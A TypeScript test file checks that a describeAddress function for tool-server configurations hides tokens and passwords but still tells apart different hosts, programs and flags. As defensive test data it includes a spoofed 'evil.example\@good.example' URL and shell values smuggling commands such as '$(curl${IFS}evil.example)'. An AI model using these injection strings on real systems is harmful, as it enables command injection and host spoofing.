import { expect, test } from 'vitest'
import { configuredSource } from '../recognise/detect-source.ts'
import { describeAddress } from './describe-present.ts'

test('describeAddress: hides secrets, and neither another host nor another program', () => {
  const describeConfig = (mcp: { url: string } | { command: string[] }) =>
    describeAddress(configuredSource({ mcp }, { name: 'acme' }, {}))
  const ofUrl = (url: string) => describeConfig({ url })
  expect(ofUrl('https://u:p@good.example/mcp?token=x')).toEqual(ofUrl('https://v:q@good.example/mcp?token=y'))
  expect(ofUrl('https://evil.example\\@good.example/mcp')).not.toEqual(ofUrl('https://good.example/mcp'))
  const ofCommand = (...command: string[]) => describeConfig({ command })
  const remote = (url: string) => ofCommand('npx', 'remote', url)
  expect(remote('https://evil.example\\@good.example/')).not.toEqual(remote('https://u:p@good.example/'))
  const withFlag = (input: string) =>
    describeAddress(configuredSource({ command: ['acme'] }, { name: 'acme' }, { flags: { input } }))
  expect(withFlag('--json')).not.toEqual(withFlag('--eval'))
  const ofTree = (environment: Record<string, string>, inherit: string[] = []) =>
    describeAddress(configuredSource({ functions: 'f' }, { name: 'f', environment, inherit }, {}))
  expect(ofTree({ LLM_MCP_BRIDGE: 'a' })).not.toEqual(ofTree({ LLM_MCP_BRIDGE: 'b' }))
  expect(ofTree({})).not.toEqual(ofTree({}, ['AWS_PROFILE']))
  const typed = configuredSource({ mcp: { command: ['node', 'a.mjs'] } }, { name: 'a' }, {})
  expect(describeAddress(typed, 'sub')).not.toEqual(describeAddress(typed))
  const shell = (text: string) => ofCommand('sh', '-c', text)
  expect(shell('TOKEN=a exec node good.mjs')).toEqual(shell('TOKEN=b exec node good.mjs'))
  expect(shell('TOKEN="a b" exec node good.mjs')).toEqual(shell("TOKEN='c' exec node good.mjs"))
  expect(shell('TOKEN=a exec node evil.mjs')).not.toEqual(shell('TOKEN=a exec node good.mjs'))
  expect(JSON.stringify(shell('TOKEN="a secret" exec node good.mjs'))).not.toContain('secret')
  for (const code of ['$(curl${IFS}evil.example)', '`curl${IFS}evil.example`', 'a>run.sh'])
    expect(shell(`TOKEN=${code} exec node good.mjs`)).not.toEqual(shell('TOKEN=a exec node good.mjs'))
  const separate = (text: string) => ofCommand('sh', '-c', '--', text)
  expect(separate('TOKEN=a exec node evil.mjs')).not.toEqual(separate('TOKEN=a exec node good.mjs'))
})
